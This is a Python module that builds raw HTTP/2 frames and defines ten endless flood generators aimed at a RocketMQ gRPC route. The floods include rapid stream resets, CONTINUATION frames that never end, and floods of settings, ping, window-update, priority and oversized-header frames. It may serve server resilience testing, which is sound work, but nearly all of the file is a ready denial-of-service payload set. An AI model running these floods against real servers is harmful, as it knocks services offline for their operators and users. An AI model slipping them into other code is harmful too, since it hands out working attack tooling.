"""Floods of HTTP/2: bytes without end that cost a server more than their sender."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """One header, without the tables of HPACK."""
    return b"\0" + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes((len(text),)) + text
    rest, more = len(text) - 127, bytearray([127])
    while rest >= 128:
        more.append(rest % 128 + 128)
        rest //= 128
    return bytes([*more, rest]) + text


CALL = b"".join(
    header(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/apache.rocketmq.v2.MessagingService/QueryRoute"),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        (b"x-mq-client-id", b"flood"),
    )
)


def _again(first: bytes, rest: bytes) -> Callable[[], Iterator[bytes]]:
    def flood() -> Iterator[bytes]:
        yield PREFACE + frame(SETTINGS, 0, 0) + first
        while True:
            yield rest

    return flood


def _calls(after: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    def flood() -> Iterator[bytes]:
        yield PREFACE + frame(SETTINGS, 0, 0)
        stream = 1
        while True:
            streams = range(stream, stream + 200, 2)
            yield b"".join(frame(HEADERS, END_HEADERS, number, CALL) + after(number) for number in streams)
            stream += 200

    return flood


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "calls that are reset at once": _calls(lambda number: frame(RESET, 0, number, CANCEL)),
    "calls without requests": _calls(lambda number: b""),
    "settings": _again(b"", frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 1000),
    "pings": _again(b"", frame(PING, 0, 0, bytes(8)) * 1000),
    "windows": _again(b"", frame(WINDOW, 0, 0, struct.pack(">I", 1)) * 1000),
    "priorities": _again(b"", frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)) * 1000),
    "empty data": _again(frame(HEADERS, END_HEADERS, 1, CALL), frame(DATA, 0, 1) * 1000),
    "headers without end": _again(
        frame(HEADERS, 0, 1, CALL), frame(CONTINUATION, 0, 1, header(b"x", b"b" * 1000)) * 100
    ),
    "empty continuations": _again(frame(HEADERS, 0, 1, CALL), frame(CONTINUATION, 0, 1) * 1000),
    "headers of great length": _again(
        b"", frame(HEADERS, END_HEADERS, 1, CALL + header(b"x", b"b" * 12_000) * 3)
    ),
}
